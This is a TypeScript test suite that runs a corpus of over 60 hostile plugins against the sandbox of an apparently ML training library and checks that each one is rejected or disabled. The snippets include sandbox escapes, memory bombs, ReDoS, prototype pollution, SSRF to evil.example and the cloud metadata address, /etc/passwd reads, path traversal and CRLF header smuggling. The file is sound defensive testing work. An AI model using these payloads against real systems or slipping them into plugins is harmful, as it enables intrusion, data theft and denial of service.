import assert from "node:assert/strict";
import { join } from "node:path";
import { describe, it } from "node:test";
import { type CallbackLike, CallbackList, type Logs } from "keepfit";
import { type LoadPluginOptions, PluginError } from "keepfit/plugins";
import { getRuntime } from "keepfit/runtime";
import { load, publish, setUpSite, site } from "../journeys/plugin_site.ts";

setUpSite();

/** Outcome of a plugin: it is not loaded, it is disabled, or it runs without harm. */
type Outcome = "rejected" | "disabled" | "harmless";

interface Hostile {
  what: string;
  /** Body of `onEpochEnd(epoch, logs)`, which may use `context` and `options`. */
  hook?: string;
  /** Whole module, instead of `hook`. */
  module?: string;
  /** Outcome in the sandbox. */
  sandboxed: Outcome;
  worker: Outcome | undefined;
  /** Whether a time limit may end it. It then gets short limits, and otherwise hardly any. */
  hangs?: true;
  controls?: string[];
  /** Additional keys of its manifest. */
  manifest?: Record<string, unknown>;
  options?: LoadPluginOptions;
}

/** The network of the plugin; the plugin itself is loaded from the server of this file. */
const answering = (answer: () => Response) => (input: string, init: RequestInit) =>
  input.startsWith("https://example.com/") ? Promise.resolve(answer()) : fetch(input, init);

const all = ["addLogs", "readWeights", "setLearningRate", "stop", "writeWeights"];
const net = { permissions: { net: [{ host: "example.com", reason: "x" }] } };
const read = { permissions: { read: [{ path: "allowed", reason: "x" }] } };
const harmless = { sandboxed: "harmless", worker: "harmless" } as const;
const disabled = { sandboxed: "disabled", worker: "disabled" } as const;
const rejected = { sandboxed: "rejected", worker: "rejected" } as const;
const short = { callTime: 1500, hookTime: 5000 };
const long = { callTime: 300_000, hookTime: 300_000 };
// Deno and Bun cannot limit the memory of a thread, so that exhausting it would end the process.
const isNode = getRuntime().name === "node";
const bomb = { sandboxed: "disabled", worker: isNode ? "disabled" : undefined } as const;
/** For plugins that only use rights of the process, which a worker has by design. */
const sandboxOnly = { worker: undefined } as const;

/** The function of a thread that posts messages, on each runtime. */
const post =
  `const port = globalThis.process?.getBuiltinModule?.("node:worker_threads")?.parentPort; const post = typeof globalThis.postMessage === "function" ? globalThis.postMessage.bind(globalThis) : port.postMessage.bind(port);`;

const corpus: Hostile[] = [
  ...["{ toString() { throw 1; } }", "Object.create(null)", "new Proxy({}, handler)"].flatMap(
    (thrown): Hostile[] => {
      const handler =
        "const handler = { get() { throw 1; }, getPrototypeOf() { throw 2; } }; const made = () => {";
      return [
        { what: `throws ${thrown} in its module`, module: `${handler} }; throw ${thrown};` },
        {
          what: `throws ${thrown} in its factory`,
          module: `${handler} throw ${thrown}; }; export default made;`,
        },
      ].map((one) => ({ ...one, ...rejected }));
    },
  ),
  {
    what: "throws when its hooks are looked up",
    module: "export default () => ({ get onEpochEnd() { throw new Error('look away'); } });",
    ...rejected,
  },
  { what: "never ends in a hook", hook: "for (;;);", hangs: true, ...disabled },
  { what: "never ends in its module", module: "for (;;);", hangs: true, ...rejected },
  {
    what: "never ends in its factory",
    module: "export default () => { for (;;); };",
    hangs: true,
    ...rejected,
  },
  {
    what: "never ends in a getter of its result",
    module: "export default () => ({ get onEpochEnd() { for (;;); } });",
    hangs: true,
    ...rejected,
  },
  {
    what: "never ends in a promise's jobs",
    hook: "await (function again() { return Promise.resolve().then(again); })();",
    hangs: true,
    ...disabled,
  },
  {
    what: "awaits a promise that never settles",
    hook: "await new Promise(() => {});",
    hangs: true,
    ...disabled,
  },
  {
    what: "awaits a then that is never called",
    hook: "await { then() {} };",
    hangs: true,
    ...disabled,
  },
  {
    what: "returns a then that is called twice",
    module:
      "export default () => ({ onEpochEnd: () => ({ then(yes, no) { yes(1); no(new Error('x')); } }) });",
    ...harmless,
  },
  {
    what: "recurses without end",
    hook: "(function again() { return again() + 1; })();",
    ...disabled,
  },
  {
    what: "recurses through JSON",
    hook: "let a = []; for (let i = 0; i < 1e5; i++) a = [a]; JSON.stringify(a);",
    sandboxed: "disabled",
    // Some engines can do it.
    worker: undefined,
  },
  {
    what: "sorts with a comparison that never ends",
    hook: "[2, 1].sort(() => { for (;;); });",
    hangs: true,
    ...disabled,
  },
  {
    what: "matches a pattern that never ends",
    hook: "/^(a+)+$/.test('a'.repeat(60) + '!');",
    sandboxed: "disabled",
    // Some engines give up.
    hangs: true,
    worker: undefined,
  },
  {
    what: "fills memory with arrays",
    hook: "const a = []; for (;;) a.push(new Array(1e4).fill(1));",
    hangs: true,
    ...bomb,
    options: { limits: { memory: 32 * 1024 * 1024 } },
  },
  {
    what: "fills memory with one text",
    hook: "let s = 'x'; for (;;) s += s;",
    hangs: true,
    ...bomb,
  },
  {
    what: "fills memory with one buffer",
    hook: "new Uint8Array(2 ** 31);",
    sandboxed: "disabled",
    ...sandboxOnly,
  },
  {
    what: "floods with promises",
    hook: "for (;;) Promise.resolve().then(() => {});",
    hangs: true,
    ...bomb,
  },
  {
    what: "copies bytes forever",
    hook: "const a = new Uint8Array(40 << 20); for (;;) a.copyWithin(0, 1);",
    hangs: true,
    sandboxed: "disabled",
    ...sandboxOnly,
  },
  {
    what: "fills bytes forever",
    hook:
      "const a = new Uint8Array(40 << 20); for (;;) try { a.fill(7); } catch {} finally { continue; }",
    hangs: true,
    sandboxed: "disabled",
    ...sandboxOnly,
  },
  {
    what: "joins texts forever",
    hook: "const s = 'x'.repeat(1e7); for (;;) (s + s).charCodeAt(3);",
    hangs: true,
    sandboxed: "disabled",
    ...sandboxOnly,
  },
  {
    what: "calls the host forever",
    hook: "for (;;) await context.readWeights();",
    hangs: true,
    ...disabled,
    controls: all,
  },
  { what: "throws undefined", hook: "throw undefined;", ...disabled },
  { what: "throws null", hook: "throw null;", ...disabled },
  { what: "throws a symbol", hook: "throw Symbol('x');", ...disabled },
  {
    what: "throws a value that cannot be shown",
    hook: "throw { toString() { throw 1; }, get message() { throw 2; } };",
    ...disabled,
  },
  {
    what: "throws a proxy",
    hook: "throw new Proxy({}, { get() { throw 3; }, getPrototypeOf() { throw 4; } });",
    ...disabled,
  },
  {
    what: "throws an error with a huge message",
    hook: "throw new Error('x'.repeat(5e6));",
    ...disabled,
  },
  {
    what: "rejects a promise that is not awaited",
    hook: "Promise.reject(new Error('lost'));",
    sandboxed: "harmless",
    worker: "disabled",
  },
  { what: "logs a line of five megabytes", hook: "context.log('x'.repeat(5e6));", ...harmless },
  {
    what: "logs a thousand lines",
    hook: "for (let i = 0; i < 1000; i++) context.log('line ' + i);",
    ...harmless,
  },
  {
    what: "logs escape sequences",
    hook: "context.log('\\u001b[2J\\u001b]0;title\\u0007\\r fake');",
    ...harmless,
  },
  {
    what: "pollutes the prototype of all objects",
    hook:
      "Object.prototype.pwned = 1; Array.prototype.map = () => { throw 1; }; JSON.parse = () => ({ pwned: 1 });",
    ...harmless,
  },
  {
    what: "pollutes through its logs",
    hook:
      "logs.__proto__ = { pwned: 1 }; Object.defineProperty(logs, '__proto__', { value: 1, enumerable: true }); logs.constructor = 1;",
    ...harmless,
    controls: all,
  },
  {
    what: "adds logs that are not numbers",
    hook: "Object.assign(logs, { a: 'x', b: {}, c: null, d: () => 1, e: undefined });",
    ...harmless,
    controls: all,
  },
  {
    what: "adds ten thousand logs",
    hook: "for (let i = 0; i < 1e4; i++) logs['k' + i] = i;",
    ...disabled,
    controls: all,
  },
  {
    what: "adds different logs in each epoch",
    hook: "for (let i = 0; i < 500; i++) logs['k' + epoch + '.' + i] = i;",
    ...disabled,
    controls: all,
  },
  {
    what: "adds a log with escape sequences in its name",
    hook: "logs['\\u001b[2J\\u001b[Hall is well'] = 1;",
    ...disabled,
    controls: all,
  },
  {
    what: "adds a log with a long name",
    hook: "logs['x'.repeat(2e6)] = 1;",
    ...disabled,
    controls: all,
  },
  {
    what: "changes logs with a forged message",
    hook:
      `${post} for (let id = 1; id < 40; id++) post({ kind: 'result', id, logs: { loss: 0 } });`,
    worker: "disabled",
    sandboxed: "disabled",
  },
  {
    what: "posts nothing",
    hook: `${post} post(null); await new Promise(() => {});`,
    ...disabled,
  },
  {
    what: "posts an invalid result",
    hook: `${post} post({ kind: 'result', id: 2, error: null }); await new Promise(() => {});`,
    ...disabled,
  },
  {
    what: "answers pings but never returns",
    hook:
      `${post} for (;;) { post({ kind: 'pong', nonce: 1 }); const end = Date.now() + 20; while (Date.now() < end); }`,
    hangs: true,
    ...disabled,
  },
  {
    what: "forges the result of its loading",
    module:
      `${post} post({ kind: 'result', id: 1, members: 5 }); export default () => ({ onEpochEnd() {} });`,
    ...rejected,
  },
  {
    what: "redefines a property of the logs",
    hook:
      "Object.defineProperty(logs, 'loss', { get() { for (;;); }, enumerable: true, configurable: true });",
    hangs: true,
    ...disabled,
    controls: all,
  },
  {
    what: "climbs to the constructor of functions",
    hook:
      "globalThis.constructor; const g = (() => {}).constructor('return this')(); g.pwned = 1; logs.loss = typeof g.process + typeof g.Deno + typeof g.Bun === 'undefinedundefinedundefined' ? 1 : 2;",
    sandboxed: "harmless",
    ...sandboxOnly,
    controls: all,
  },
  {
    what: "climbs from the functions of its context",
    hook:
      "const g = context.log.constructor('return this')(); if (typeof g.process !== 'undefined' || typeof g.fetch !== 'undefined') throw new Error('out'); ",
    sandboxed: "harmless",
    ...sandboxOnly,
  },
  {
    what: "climbs from an error of the host",
    hook:
      "try { context.setLearningRate('x'); } catch (error) { const g = error.constructor.constructor('return this')(); if (typeof g.process !== 'undefined') throw new Error('out'); if (/\\/(plugins|core)\\//.test(error.stack)) throw new Error('sees the host'); }",
    sandboxed: "harmless",
    ...sandboxOnly,
    controls: all,
  },
  {
    what: "climbs from a promise of the host",
    hook:
      "const p = context.readWeights(); const g = p.constructor.constructor('return this')(); p.catch(() => {}); if (typeof g.process !== 'undefined') throw new Error('out');",
    sandboxed: "harmless",
    ...sandboxOnly,
    controls: all,
  },
  {
    what: "changes how its context is called",
    hook:
      "Function.prototype.call = Function.prototype.apply = Reflect.apply = () => { throw 1; }; Promise.prototype.then = () => { throw 2; }; Array.prototype[Symbol.iterator] = () => { throw 3; }; context.log('still here');",
    sandboxed: "harmless",
    ...sandboxOnly,
  },
  {
    what: "overwrites its context",
    hook:
      "try { context.log = 1; } catch {} try { delete context.id; } catch {} if (typeof context.log !== 'function') throw new Error('not frozen');",
    ...harmless,
  },
  { what: "imports what is computed", hook: "await import('node:' + 'fs');", ...rejected },
  {
    what: "imports from generated code",
    hook: "await (0, eval)(\"import('node:fs')\");",
    sandboxed: "disabled",
    ...sandboxOnly,
  },
  {
    what: "imports from a generated function",
    hook: "await new Function(\"return import('fs')\")();",
    sandboxed: "disabled",
    ...sandboxOnly,
  },
  {
    what: "looks for access to the machine",
    hook:
      "for (const name of ['process', 'Deno', 'Bun', 'require', 'fetch', 'XMLHttpRequest', 'WebSocket', 'Worker', 'WebAssembly', 'setTimeout', 'navigator', 'postMessage', 'importScripts', 'SharedWorker', 'localStorage']) if (typeof globalThis[name] !== 'undefined') throw new Error(name);",
    sandboxed: "harmless",
    ...sandboxOnly,
  },
  {
    what: "ends the process",
    hook: "if (globalThis.Deno) Deno.exit(1); process.exit(1);",
    hangs: true,
    ...disabled,
  },
  { what: "kills the process", hook: "process.abort();", sandboxed: "disabled", ...sandboxOnly },
  {
    what: "sends to a host that it did not declare",
    hook: "await context.fetch('https://evil.example/');",
    ...disabled,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "sends to a host that looks declared",
    hook: "await context.fetch('https://example.com.evil.example/');",
    ...disabled,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "sends to a user that looks like the host",
    hook: "await context.fetch('https://example.com@evil.example/');",
    ...disabled,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "sends to the cloud's metadata address",
    hook: "await context.fetch('http://169.254.169.254/latest/');",
    ...disabled,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "sends by plain http",
    hook: "await context.fetch('http://example.com/');",
    ...disabled,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "fetches a file",
    hook: "await context.fetch('file:///etc/passwd');",
    ...disabled,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "is redirected to this machine",
    hook: "await context.fetch('https://example.com/move');",
    ...disabled,
    manifest: net,
    options: {
      allow: ["net"],
      fetch: answering(() =>
        new Response(null, { status: 302, headers: { location: "http://127.0.0.1/" } })
      ),
    },
  },
  {
    what: "smuggles a header",
    hook: "await context.fetch('https://example.com/', { headers: { 'x': 'a\\r\\nhost: evil' } });",
    ...disabled,
    manifest: net,
    options: { allow: ["net"], fetch: answering(() => new Response("ok")) },
  },
  {
    what: "uses a permission that was not granted",
    hook: "await context.fetch('https://example.com/');",
    ...disabled,
  },
  {
    what: "reads above its folder",
    hook: "await context.read('allowed/../../secret.txt');",
    ...disabled,
    manifest: read,
    options: { allow: ["read"] },
  },
  {
    what: "reads an absolute path",
    hook: "await context.read('/etc/passwd');",
    ...disabled,
    manifest: read,
    options: { allow: ["read"] },
  },
  {
    what: "writes above its folder",
    hook: "await context.write('../x.txt', 'x');",
    ...disabled,
    manifest: { permissions: { write: [{ path: "*.txt", reason: "x" }] } },
    options: { outputDir: "out" },
  },
  {
    what: "writes a value that is not data",
    hook: "await context.write('x.txt', { toString() { for (;;); } });",
    hangs: true,
    ...disabled,
    manifest: { permissions: { write: [{ path: "*.txt", reason: "x" }] } },
    options: { outputDir: "out" },
  },
  {
    what: "sets an invalid learning rate",
    hook: "context.setLearningRate('0.1; drop');",
    ...disabled,
    controls: all,
  },
  {
    what: "writes weights of a wrong shape",
    hook:
      "await context.writeWeights([{ shape: [1e9], dtype: 'float32', values: new Float32Array(1) }]);",
    ...disabled,
    controls: all,
  },
  {
    what: "has a state that is not data",
    module:
      "export default () => ({ onEpochEnd() {}, getState: () => { const a = {}; a.a = a; return a; } });",
    ...disabled,
  },
  {
    what: "calls the host ten thousand times concurrently",
    hook: "for (let i = 0; i < 1e4; i++) context.readWeights().catch(() => {});",
    sandboxed: "disabled",
    worker: "harmless",
    controls: all,
  },
  {
    what: "never ends in close",
    module: "export default () => ({ onEpochEnd() {}, close() { for (;;); } });",
    hangs: true,
    ...disabled,
  },
  {
    what: "throws in close",
    module: "export default () => ({ onEpochEnd() {}, close() { throw new Error('x'); } });",
    ...disabled,
  },
];

interface Ran {
  failures: unknown[];
  /** Logs of each epoch that the next callback receives. */
  logs: Logs[];
}

async function run(callback: CallbackLike): Promise<Ran> {
  const logs: Logs[] = [];
  const next: CallbackLike = {
    name: "next",
    onEpochEnd: (_epoch, seen) => void logs.push({ ...seen }),
  };
  const list = new CallbackList([callback, next], {
    params: { verbose: 0, epochs: 3, steps: 1 },
  });
  try {
    await list.onTrainBegin();
    for (let epoch = 0; epoch < 3; epoch++) {
      await list.onEpochBegin(epoch);
      await list.onEpochEnd(epoch, { loss: 1 });
    }
    await list.getState().catch(() => {});
    await list.onTrainEnd();
  } finally {
    await list.close().catch(() => {});
  }
  return { failures: list.failures, logs };
}

for (const tier of ["sandboxed", "worker"] as const) {
  describe(`A hostile plugin, ${tier}`, () => {
    for (
      const { what, hook, module, hangs, controls = [], manifest = {}, options = {}, ...outcomes }
        of corpus
    ) {
      const outcome = outcomes[tier];
      if (outcome === undefined) continue;
      it(`A hostile plugin that ${what} is ${outcome}`, async () => {
        const source = module ??
          `export default (options, context) => ({ async onEpochEnd(epoch, logs) { ${hook} } });`;
        const url = await publish({ "main.js": source }, manifest, { controls });
        const { outputDir, limits, ...more } = options;
        const loading = load(url, {
          tier,
          limits: { ...(hangs ? short : long), memory: 48 * 1024 * 1024, ...limits },
          ...(outputDir === undefined ? {} : { outputDir: join(site.folder, "out") }),
          ...more,
        });
        if (outcome === "rejected") {
          return await assert.rejects(
            loading,
            (error) =>
              error instanceof PluginError && /\S/.test(error.message.split(": ").at(-1) as string),
          );
        }
        const { failures, logs } = await run(await loading);
        assert.equal(failures.length > 0, outcome === "disabled", String(JSON.stringify(failures)));
        // The run has continued, and the host is unchanged.
        assert.equal(logs.length, 3);
        if (!controls.includes("addLogs")) {
          assert.deepEqual(logs, [{ loss: 1 }, { loss: 1 }, { loss: 1 }]);
        }
        assert.deepEqual(logs.map(({ loss }) => loss), [1, 1, 1]);
        assert.equal("pwned" in {}, false);
        assert.equal("pwned" in globalThis, false);
        assert.deepEqual([1].map((one) => one + 1), [2]);
      });
    }

    it("A hostile plugin is one of at least 60", () => assert(corpus.length >= 60));
  });
}
